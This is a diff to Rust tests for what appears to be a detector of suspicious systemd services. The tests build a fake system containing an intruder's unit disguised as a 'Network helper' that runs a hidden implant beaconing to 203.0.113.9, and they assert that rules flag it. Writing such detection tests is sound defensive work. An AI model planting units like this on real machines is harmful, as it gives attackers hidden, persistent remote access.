@@ -137,6 +137,9 @@ fn machine() -> Option<PathBuf> {
         "/lib/systemd/system/getty@.service",
     );
     link(&root, "/etc/rc2.d/S01cron", "../init.d/cron");
+    // A copy of the package's unit put in /etc by hand (it now takes the vendor's place).
+    let cron_unit = std::fs::read_to_string(root.join("lib/systemd/system/cron.service")).ok()?;
+    write(&root, "/etc/systemd/system/cron.service", &cron_unit, 0o644);
     // The intruder's.
     write(&root, "/etc/systemd/system/backdoor.service",
         "[Unit]\nDescription=Network helper\n[Service]\nType=simple\nExecStartPre=-/bin/mkdir -p /tmp/.x\nExecStart=/tmp/.x/implant --beacon 203.0.113.9\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", 0o644);
@@ -396,7 +399,15 @@ fn service_states_are_what_systemctl_says() {
     );
     assert_eq!(rc.service.exec[1].command, "/tmp/.x/implant --rc &");
 
-    // Findings: the intruder's items above the packages'.
+    // Findings: the rules that speak for the intruder's items, and those items above the
+    // packages'.
+    assert_rules(
+        &r,
+        "backdoor.service",
+        &["enabled_local_service", "not_from_a_package", "hidden_path"],
+    );
+    assert_rules(&r, "ssh.service", &["exec_changed_by_drop_in"]);
+    assert_rules(&r, "cron.service", &["overrides_vendor_unit"]);
     let findings = r.findings();
     let score = |name: &str| {
         findings
